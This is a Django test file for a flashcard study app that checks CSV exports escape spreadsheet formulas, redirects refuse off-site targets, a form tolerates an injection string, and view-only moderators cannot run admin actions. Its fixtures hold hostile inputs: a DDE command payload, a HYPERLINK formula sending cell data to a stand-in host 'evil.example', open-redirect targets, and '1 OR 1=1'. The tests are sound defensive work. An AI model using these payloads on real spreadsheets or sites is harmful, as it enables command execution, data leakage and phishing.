"""Study pages and exports treat what students and documents send as data."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Permission
from django.test import Client
from django.utils import timezone

from materials.models import ContentReport, Flashcard, Material
from tests.support.factories import MaterialFactory, UserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def card(user) -> Flashcard:
    material = MaterialFactory(owner=user, title="=cmd|' /C calc'!A0", status="ready")
    return Flashcard.objects.create(
        owner=user,
        material=material,
        front='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        back="+1+1",
        due=timezone.now(),
    )


def test_csv_export_cells_never_start_a_formula(api, card):
    text = api.get(f"/api/materials/{card.material_id}/export/csv/").content.decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["front"] == "'" + card.front
    assert row["back"] == "'+1+1"
    assert row["source"].startswith("'=cmd")


@pytest.mark.parametrize("target", ["/\\evil.example", "//evil.example", "https://evil.example/"])
def test_next_to_another_site_goes_to_the_default_page(logged_in, card, target):
    response = logged_in.post(f"/materials/flashcards/{card.pk}/suspend/", {"next": target})
    assert response.status_code == 302
    assert response["Location"] == f"/materials/{card.material_id}/flashcards/"


def test_next_within_the_site_is_followed(logged_in, card):
    response = logged_in.post(f"/materials/flashcards/{card.pk}/suspend/", {"next": "/tutor/"})
    assert response["Location"] == "/tutor/"


@pytest.mark.parametrize("htmx", [False, True])
def test_review_with_a_malformed_material_is_not_an_error(logged_in, card, htmx):
    headers = {"HTTP_HX_REQUEST": "true", "HTTP_HX_TARGET": "review-card"} if htmx else {}
    response = logged_in.post(
        f"/materials/flashcards/{card.pk}/review/",
        {"rating": "3", "material": "1 OR 1=1"},
        **headers,
    )
    assert response.status_code in (200, 302)
    assert card.reviews.count() == 1


def test_moderator_who_may_only_view_runs_no_actions(user):
    material = MaterialFactory(owner=user, title="Kept visible")
    report = ContentReport.objects.create(reporter=user, material=material, reason="x")
    viewer = UserFactory(is_staff=True)
    viewer.user_permissions.set(
        Permission.objects.filter(
            codename__in=["view_material", "view_contentreport", "view_flashcard"]
        )
    )
    client = Client()
    client.force_login(viewer)
    page = client.get("/admin/materials/material/").content.decode()
    assert 'value="hide"' not in page and 'value="reprocess"' not in page
    for model, action, pk in (
        ("material", "hide", material.pk),
        ("contentreport", "hide_target", report.pk),
        ("contentreport", "resolve", report.pk),
    ):
        client.post(
            f"/admin/materials/{model}/", {"action": action, "_selected_action": [pk], "index": 0}
        )
    material.refresh_from_db()
    report.refresh_from_db()
    assert not material.is_hidden
    assert report.status == ContentReport.Status.OPEN


def test_changing_reports_alone_does_not_hide_materials(user):
    """Hiding the reported rows writes them: the right to change reports is not enough."""
    material = MaterialFactory(owner=user)
    report = ContentReport.objects.create(reporter=user, material=material, reason="x")
    moderator = UserFactory(is_staff=True)
    moderator.user_permissions.set(
        Permission.objects.filter(codename__in=["view_contentreport", "change_contentreport"])
    )
    client = Client()
    client.force_login(moderator)
    client.post(
        "/admin/materials/contentreport/",
        {"action": "hide_target", "_selected_action": [report.pk], "index": 0},
    )
    assert not Material.objects.get(pk=material.pk).is_hidden
